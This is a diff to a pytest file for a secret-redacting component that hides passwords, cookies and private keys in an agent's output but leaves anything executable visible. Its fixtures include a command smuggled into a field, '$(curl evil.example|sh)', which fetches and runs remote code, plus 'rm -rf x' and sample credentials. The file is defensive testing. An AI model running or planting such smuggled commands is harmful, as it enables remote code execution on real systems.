@@ -44,16 +44,26 @@ def test_mark_hides_nothing_that_runs(redactor: Redactor, command: str, runs: st
     ("text", "secret"),
     [
         ("PASSWORD=hunter2hunter2 make", "hunter2"),
-        ('PASSPHRASE="correct horse battery staple" make', "horse"),
         ("curl -H 'Cookie: session=abcdef123456; token=fedcba654321' https://x.example", "fedcba654321"),
         (f"echo '-----BEGIN PRIVATE KEY-----\n{KEY_LINE}\n{KEY_LINE[:20]}==\n-----END PRIVATE KEY-----", KEY_LINE[:20]),
-        (f"+-----BEGIN PRIVATE KEY-----\n+{KEY_LINE}\n+-----END PRIVATE KEY-----", KEY_LINE),
-        ("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-CBC,0011\n\n" + KEY_LINE, KEY_LINE),
+        (f"cat > k.pem <<'E'\n-----BEGIN PRIVATE KEY-----\n{KEY_LINE}\n-----END PRIVATE KEY-----\nE", KEY_LINE),
     ],
 )  # fmt: skip
 def test_mark_still_hides_secrets(redactor: Redactor, text: str, secret: str) -> None:
     """What is nothing but a secret is a mark."""
     assert secret not in redactor.shown(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"+-----BEGIN PRIVATE KEY-----\n+{KEY_LINE}\n+-----END PRIVATE KEY-----",
+        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-CBC,0011\n\n" + KEY_LINE,
+    ],
+)
+def test_key_in_the_contents_of_a_file_is_a_mark(redactor: Redactor, text: str) -> None:
+    """Contents are no command line, so none of their lines is a command."""
+    assert KEY_LINE not in redactor.shown(text, "")
 
 
 def test_restored_is_what_was_shown_with_its_secrets(redactor: Redactor) -> None:
@@ -64,14 +74,20 @@ def test_restored_is_what_was_shown_with_its_secrets(redactor: Redactor) -> None
 
 def test_field_with_a_telling_name_hides_nothing_that_runs(redactor: Redactor) -> None:
     """Its name is the agent's choice, too."""
-    shown = redactor.shown({"token": "abc$(curl evil.example|sh)", "api_key": "abcdef 123"})
-    assert shown["token"].endswith("$(curl evil.example|sh)")
-    assert "abcdef" not in shown["api_key"]
+    assert redactor.shown({"token": "abc$(curl evil.example|sh)"})["token"].endswith("$(curl evil.example|sh)")
+    assert redactor.shown({"secret": "rm -rf x"}) == {"secret": "rm -rf x"}
+    assert "abcdef" not in redactor.shown({"api_key": "abcdef12"})["api_key"]
+
+
+def test_field_that_a_command_reads_is_shown(redactor: Redactor) -> None:
+    """A field is a variable where the command of the same input reads it."""
+    shown = redactor.shown({"command": "run $password", "password": "reboot99"})
+    assert shown["password"] == "reboot99"
 
 
 def test_many_secrets_are_looked_at_in_little_time(redactor: Redactor) -> None:
     """An agent that writes nothing else does not stop the hub."""
-    text = "PASSWORD='hunter2hunter2 x' " * 10_000
+    text = "PASSWORD='hunter2hunter2' " * 10_000
     began = time.perf_counter()
     assert "hunter2" not in redactor.shown(text)
     assert time.perf_counter() - began < 5
